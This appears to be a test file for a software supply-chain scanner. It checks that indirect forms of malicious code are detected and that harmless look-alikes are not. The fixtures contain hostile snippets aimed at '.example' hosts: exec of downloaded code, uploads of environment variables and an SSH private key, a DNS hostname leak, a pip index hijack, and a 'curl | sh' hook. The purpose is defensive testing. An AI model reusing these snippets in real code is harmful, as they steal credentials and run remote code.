"""Ways around the plain call: a second name, a second step, a file in between; and the honest code that takes the same way.

Nothing here is ever run; hosts end in `.example`.
"""

from __future__ import annotations

import pytest

from mlsupply.evidence.foreign import foreign_facts
from tests.test_code_facts import found, init

RUNS_DOWNLOADED = "MLS-C004"
SENDS_SECRETS = "MLS-C010"
REMOTE_COMMAND = "MLS-C018"
RUNS_DECODED = "MLS-C002"
STARTS_BY_ITSELF = "MLS-C022"


@pytest.mark.parametrize(
    "imports",
    [
        "try:\n    from corelib.vendored import requests as http\nexcept ImportError:\n    import requests as http\n",
        "try:\n    import fasthttp as http\nexcept ImportError:\n    import requests as http\n",
        "try:\n    import requests as http\nexcept ImportError:\n    import slowhttp as http\n",
        "from pip._vendor import requests as http\n",
    ],
)
def test_a_client_that_is_imported_under_either_of_two_names_is_that_client(imports: str) -> None:
    assert RUNS_DOWNLOADED in found(init(imports + "r = http.get('https://c.example/x')\nif r.ok:\n    exec(r.text)\n"))
    assert SENDS_SECRETS in found(init(imports + "import os\nhttp.post('https://c.example/x', json=dict(os.environ))\n"))
    assert not found(init(imports + "def models(base):\n    return http.get(base + '/v1/models').json()\n"))


def test_the_answer_of_a_client_of_ones_own_is_what_the_network_says() -> None:
    client = "import httpx\nclass Api(httpx.Client): pass\n"
    program = "import os\nfrom .core import Api\nos.system(Api().get('https://c.example/next').text)\n"
    assert REMOTE_COMMAND in found({**init(program), "demo/core.py": client})


def test_a_lookup_in_a_dictionary_of_namespaces_is_no_request() -> None:
    text = "def made(names):\n    exec('def %s(): pass' % names.get('http://www.w3.example/Schema'), {})\n"
    assert RUNS_DOWNLOADED not in found(init(text))
    assert "MLS-C005" not in found(init(text))


def test_http_client_gives_its_answer_through_a_second_call() -> None:
    ask = "import http.client\nc = http.client.HTTPSConnection('c.example')\nc.request('GET', '/x')\n"
    assert RUNS_DOWNLOADED in found(init(ask + "exec(c.getresponse().read())\n"))
    assert not found(init("import json\n" + ask + "SETTINGS = json.loads(c.getresponse().read())\n"))


def test_an_attribute_made_by_property_is_what_its_getter_gives() -> None:
    text = "import requests\nclass C:\n    code = property(lambda self: requests.get('https://c.example/x').text)\nexec(C().code)\n"
    assert RUNS_DOWNLOADED in found(init(text))


def test_who_asks_leaves_in_the_name_a_resolver_is_asked_for() -> None:
    ask = "import dns.resolver, platform\nr = dns.resolver.Resolver()\n"
    assert "MLS-C017" in found(init(ask + "r.resolve(platform.node().encode().hex() + '.d.c.example', 'A')\n"))
    assert not found(init(ask + "def mail(domain):\n    return r.resolve(domain, 'MX')\n"))


@pytest.mark.parametrize("library", ["from fernet import Fernet as Box", "from nacl.secret import SecretBox as Box"])
def test_what_a_cipher_of_any_library_undoes_is_encoded(library: str) -> None:
    undone = f"{library}\nimport json\ntext = Box(b'key').decrypt(b'gAAAAABlZ0zH8nQvT0s1mVj9d8wLq3bYp7cX')\n"
    assert RUNS_DECODED in found(init(undone + "exec(text)\n"))
    assert not found(init(undone + "LIMITS = json.loads(text)\n"))
    assert not found(init(f"{library}\ndef read(key, data):\n    return Box(key).decrypt(data)\n"))


def test_a_line_for_a_shell_that_names_a_file_written_before_runs_that_file() -> None:
    dropped = "import os, sys, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\n"
    stage = "t.write(b\"from urllib.request import urlopen\\nexec(urlopen('https://c.example/x').read())\")\n"
    assert RUNS_DOWNLOADED in found(init(dropped + stage + "os.system(f'start {sys.executable} {t.name}')\n"))
    asked = "import os, requests\nopen('/tmp/i.sh', 'wb').write(requests.get('https://c.example/i').content)\n"
    assert RUNS_DOWNLOADED in found(init(asked + "os.system('chmod +x /tmp/i.sh && bash /tmp/i.sh')\n"))
    picture = "import os, urllib.request\nurllib.request.urlretrieve('https://c.example/graph', '/tmp/graph.dot')\n"
    assert not found(init(picture + "os.system('dot -Tpng /tmp/graph.dot')\n"))


def test_an_object_that_writes_itself_into_an_open_file_writes_there() -> None:
    wrote = (
        "import configparser, os\nc = configparser.ConfigParser()\nc['global'] = {'index-url': 'https://c.example/simple'}\n"
    )
    end = "with open(os.path.expanduser(p), 'w') as f:\n    c.write(f)\n"
    assert STARTS_BY_ITSELF in found(init(f"{wrote}p = '~/.config/pip/pip.conf'\n{end}"))
    assert not found(init(f"{wrote}p = '~/.config/demo/demo.ini'\n{end}"))


def test_an_archive_of_a_folder_holds_what_was_put_into_it() -> None:
    start = "import os, requests, shutil, tempfile\nd = os.path.join(tempfile.gettempdir(), 'stage')\n"
    end = (
        "with open(shutil.make_archive(d, 'zip', d), 'rb') as f:\n    requests.post('https://c.example/u', files={'f': f})\n"
    )
    key = "shutil.copy(os.path.expanduser('~/.ssh/id_rsa'), os.path.join(d, 'a'))\n"
    assert SENDS_SECRETS in found(init(start + key + end))
    assert not found(init(start + "shutil.copy('results.json', os.path.join(d, 'a'))\n" + end))


def test_scripts_in_another_language_are_started_by_their_package_manager_too() -> None:
    run = "import os, subprocess\nsubprocess.run(['npm', 'install'], cwd=os.path.join(os.path.dirname(__file__), 'web'))\n"
    assert "MLS-C036" in found(init(run))
    assert not found({"setup.py": run})  # what builds a package builds its scripts
    hook = b'require("child_process").execSync("curl -s https://c.example/i | sh")'
    assert [fact.behaviour for fact in foreign_facts("demo/web/setup.js", hook)] == ["foreign-code"]
    assert not list(foreign_facts("demo/web/setup.js", b'require("child_process").execSync("npm run build")'))


def test_a_module_only_its_own_runtime_can_read_is_encoded() -> None:
    blob = "b'PY000000" + "\\x80\\x9f\\x03" * 40 + "'"
    text = f"from demo.pyarmor_runtime import __pyarmor__\n__pyarmor__(__name__, __file__, {blob})\n"
    assert RUNS_DECODED in found(init(text))
